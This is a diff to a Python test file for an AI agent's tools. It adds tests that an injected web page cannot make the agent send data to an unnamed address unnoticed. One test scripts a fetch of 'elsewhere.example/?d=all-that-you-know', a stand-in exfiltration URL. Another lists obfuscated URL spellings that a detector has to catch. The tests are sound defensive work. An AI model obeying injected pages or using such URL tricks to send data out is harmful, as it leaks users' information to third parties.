@@ -7,6 +7,7 @@ import asyncio
 import contextlib
 import sys
 from pathlib import Path
+from typing import ClassVar
 
 import pytest
 
@@ -15,6 +16,7 @@ from core.store.connection import connect
 from core.store.embedded import embedded
 from core.store.pins import SharedPins
 from core.tools import built_in
+from core.tools.addresses import builds, said_in
 from core.tools.registry import Tools
 from core.tools.servers import Servers
 from core.tools.tool import ToolResult, ToolSpec
@@ -37,9 +39,22 @@ class Page:
         return ToolResult(INJECTED)
 
 
+class Fetch:
+    """A tool that only reads, as its operator says: whatever address it is given."""
+
+    spec = ToolSpec("fetch", "Fetches.", {"type": "object"}, "read_only", foreign=True, sends=True)
+    given: ClassVar[list] = []
+
+    async def call(self, arguments, context):
+        self.given.append(arguments["url"])
+        return ToolResult("See https://named.example/b, too.")
+
+
 @pytest.fixture
 def served(monkeypatch, served):
     monkeypatch.setitem(built_in.BUILT_IN, "page", Page)
+    monkeypatch.setitem(built_in.BUILT_IN, "fetch", Fetch)
+    monkeypatch.setattr(Fetch, "given", [])
     return served
 
 
@@ -66,6 +81,47 @@ def obeying(model, *rounds):
 
     model.calling = call
     model.answer = lambda messages: "DONE"
+
+
+async def test_an_injected_page_sends_nothing_away_in_an_address_unasked(tmp_path, model, served):
+    driver = WebDriver()
+    fetches = [("fetch", {"url": f"https://named.example/{one}"}) for one in "ab"]
+    away = ("fetch", {"url": "https://elsewhere.example/?d=all-that-you-know"})
+    obeying(model, ("", [away]), ("", fetches[:1]), ("", fetches[1:]), ("", [away]))
+    more = {**FREE, "tools": ("fetch",)}
+    async with driving(driver, tmp_path, model, **more):
+        await driver.say("page", "what does https://named.example/a say?")
+        post = await waiting(driver, "page")
+        assert "text of others" in post.text
+        assert "elsewhere.example/?d=all-that-you-know" in post.text
+    # Before anything was read, and where the address was named, nobody was asked.
+    assert Fetch.given == [away[1]["url"], *(one["url"] for _, one in fetches)]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "is_built"),
+    [
+        ({"url": "http://a.example/x/"}, False),
+        ({"where": ["b.example", {"path": "src/main.py", "at": "2026-01-01T10:00:00"}]}, False),
+        (
+            {"sql": "SELECT a.b, c.d FROM e", "uri": "notes://mine/1", "name": "C:\\x and/or 3.14"},
+            False,
+        ),
+        ({"url": "https://a.example/x?d=secret"}, True),
+        ({"url": "https://a.example/x https://c.example/"}, True),
+        ({"url": "c.example?d=secret"}, True),
+        ({"url": "//c.example/x"}, True),
+        ({"url": "https:\\/\\/c.example"}, True),
+        ({"url": "https:c.example"}, True),
+        ({"url": "https://user@c.example/x"}, True),
+        ({"url": "\\\\c.example\\x"}, True),
+        ({"url": "203.0.113.5/secret"}, True),
+        ({"deep": [{"https://c.example/": 1}]}, True),
+    ],
+)
+def test_an_address_that_nobody_named_is_found_however_it_is_written(arguments, is_built):
+    known = said_in(["Read https://a.example/x and b.example."])
+    assert builds(arguments, known) is is_built
 
 
 @pytest.mark.parametrize("effect", ["make", "set"])
